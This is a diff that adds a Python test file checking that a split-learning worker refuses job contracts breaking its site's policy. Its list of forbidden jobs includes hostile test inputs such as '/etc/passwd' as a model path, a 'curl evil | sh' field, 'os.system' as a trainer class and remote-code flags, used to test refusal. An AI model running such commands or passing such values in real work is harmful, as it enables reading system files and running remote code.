@@ -1,0 +1,167 @@
+"""Promise 12: the site's policy is enforced at the worker, whatever the hub sends."""
+
+from __future__ import annotations
+
+import copy
+import json
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from splitcore.config import canonical_json
+from workers.models_registry import ModelRegistry, RegisteredModel
+from workers.policy import SitePolicy
+from workers.policy_review import Review, Site, review
+from workers.settings import WorkerConfig, WorkerHome
+from workers.tests.support import DIGEST, MANIFEST, PEER, assignment_for, contract_for, enrolled_home
+from workers.trust import TrustBook
+
+Change = Callable[[dict[str, Any]], None]
+
+
+@pytest.fixture
+def home(tmp_path: Path) -> WorkerHome:
+    folder = enrolled_home(tmp_path / "home")
+    model = RegisteredModel(
+        model_id="acme/tiny", revision="r1", manifest_hash=MANIFEST, folder=tmp_path, parameters=1, bytes=1
+    )
+    folder.models_file.write_text(json.dumps([model.model_dump(mode="json")]))
+    return folder
+
+
+def site_of(home: WorkerHome, policy: SitePolicy | None = None, trust: TrustBook | None = None) -> Site:
+    enrolment = WorkerConfig.load(home).enrolment
+    return Site(
+        worker_id=enrolment.worker_id,
+        organisation_id=enrolment.organisation_id,
+        fingerprint=enrolment.fingerprint,
+        policy=policy or SitePolicy(max_steps=100, max_message_bytes=1 << 24),
+        trust=trust or TrustBook(),
+        models=ModelRegistry(home),
+        has_dataset=lambda version_id, digest: (version_id, digest) == ("dsv_1", DIGEST),
+    )
+
+
+def judge(home: WorkerHome, change: Change, **assignment: Any) -> Review:
+    contract = copy.deepcopy(contract_for(home))
+    change(contract)
+    return review(assignment_for(contract, **assignment), site_of(home))
+
+
+def _model(value: str) -> Change:
+    return lambda contract: contract["config"]["model"].update(name_or_path=value)
+
+
+def _section(name: str, **values: Any) -> Change:
+    return lambda contract: contract["config"].setdefault(name, {}).update(values)
+
+
+def _own(**values: Any) -> Change:
+    return lambda contract: contract["participants"][0].update(values)
+
+
+FORBIDDEN: dict[str, Change] = {
+    "labels that leave the site (vanilla)": _section("split", topology="vanilla"),
+    "a cut before the least head layers": _section("split", head_layers=0),
+    "a tail of fewer layers than the least": _section("split", tail_layers=1),
+    "a bare public head in the tail": _section("split", tail_layers=0),
+    "an override that moves this party's cut": _section("parties", **{"hospital-a": {"head_layers": 0}}),
+    "a path of this machine as the model": _model("/etc/passwd"),
+    "a relative path as the model": _model("../../secrets"),
+    "a home folder as the model": _model("~/models/tiny"),
+    "a file address as the model": _model("file:///srv/model"),
+    "a web address as the model": _model("https://evil.example/model"),
+    "a Windows path as the model": _model("C:\\models\\tiny"),
+    "another model under a registered manifest": _model("acme/other"),
+    "another revision under a registered manifest": _section("model", revision="r2"),
+    "a model without a manifest": _section("model", manifest=None),
+    "a manifest that is not registered here": _section("model", manifest="12" * 32),
+    "more steps than the site allows": _section("training", steps=101),
+    "epochs where the site limits steps": _section("training", steps=None, epochs=1.0),
+    "remote code": _section("model", trust_remote_code=True),
+    "a class name in the configuration": _section("training", trainer_class="os.system"),
+    "a mechanism that does not exist": _section("privacy", mechanism="plugin:evil"),
+    "an unknown section": lambda contract: contract["config"].update(hooks={"before": "import os"}),
+    "another dataset of this site": _own(dataset_version_id="dsv_2"),
+    "a dataset whose digest has changed": _own(dataset_digest="00" * 32),
+    "no dataset at all": _own(dataset_version_id="", dataset_digest=""),
+    "another certificate in this worker's name": _own(fingerprint="11" * 32),
+    "another organisation in this worker's place": _own(organisation_id="org_other"),
+    "another worker in this worker's place": _own(worker_id="wrk_other"),
+    "larger messages than the site allows": lambda contract: contract.update(message_bytes=1 << 30),
+    "two servers": lambda contract: contract["participants"].append(contract["participants"][1] | {"party": "gpu-2"}),
+    "two parties of one name": lambda contract: contract["participants"].append(contract["participants"][0]),
+    "another run's contract": lambda contract: contract.update(run_id="run_2"),
+    "a field that the contract does not have": lambda contract: contract.update(run_this="curl evil | sh"),
+    "a prompt with room for a row": lambda contract: contract.update(public_prompts=["x" * 601]),
+}
+
+
+def test_a_contract_inside_the_policy_is_accepted(home: WorkerHome) -> None:
+    found = judge(home, lambda contract: None)
+    assert found.refusals == []
+    assert found.verdict(assignment_for(contract_for(home))).accepted
+
+
+@pytest.mark.parametrize("name", FORBIDDEN)
+def test_a_forbidden_job_is_refused(home: WorkerHome, name: str) -> None:
+    found = judge(home, FORBIDDEN[name])
+    assert found.refusals, name
+    assert not found.verdict(assignment_for(contract_for(home))).accepted
+
+
+def test_at_least_twenty_forbidden_jobs_are_tried() -> None:
+    assert len(FORBIDDEN) >= 20
+
+
+def test_bytes_that_do_not_have_the_approved_hash_are_refused(home: WorkerHome) -> None:
+    text = canonical_json(contract_for(home))
+    assignment = assignment_for(text).model_copy(update={"contract": text.replace('"steps":50', '"steps":60')})
+    assert review(assignment, site_of(home)).refusals
+
+
+def test_a_contract_that_is_not_canonical_is_refused(home: WorkerHome) -> None:
+    assert review(assignment_for(json.dumps(contract_for(home), indent=1)), site_of(home)).refusals
+
+
+def test_a_role_that_the_contract_does_not_give_is_refused(home: WorkerHome) -> None:
+    assert judge(home, lambda contract: None, role="server").refusals
+
+
+def test_a_compute_worker_takes_no_dataset_but_any_cut(home: WorkerHome) -> None:
+    def as_server(contract: dict[str, Any]) -> None:
+        own, peer = contract["participants"]
+        for part, role in ((own, "server"), (peer, "client")):
+            part["role"] = role
+        contract["config"]["split"].update(topology="vanilla", head_layers=1, tail_layers=0)
+        own.update(dataset_version_id="", dataset_digest="")
+
+    assert judge(home, as_server, role="server").refusals == []
+
+    def with_rows(contract: dict[str, Any]) -> None:
+        as_server(contract)
+        contract["participants"][0].update(dataset_version_id="dsv_1", dataset_digest=DIGEST)
+
+    assert judge(home, with_rows, role="server").refusals
+
+
+def test_an_unlisted_certificate_is_refused_where_the_site_lists_them(home: WorkerHome) -> None:
+    assignment, policy = assignment_for(contract_for(home)), SitePolicy(peer_trust="listed")
+    assert review(assignment, site_of(home, policy)).refusals
+    trust = TrustBook()
+    trust.add(PEER)
+    assert review(assignment, site_of(home, policy, trust)).refusals == []
+
+
+def test_a_certificate_other_than_at_first_use_is_refused(home: WorkerHome) -> None:
+    trust = TrustBook()
+    trust.remember("wrk_gpu", "22" * 32)
+    assert review(assignment_for(contract_for(home)), site_of(home, trust=trust)).refusals
+
+
+def test_a_model_outside_the_site_s_list_is_refused(home: WorkerHome) -> None:
+    assignment = assignment_for(contract_for(home))
+    assert review(assignment, site_of(home, SitePolicy(models=["acme/other"]))).refusals
+    assert review(assignment, site_of(home, SitePolicy(models=[MANIFEST]))).refusals == []
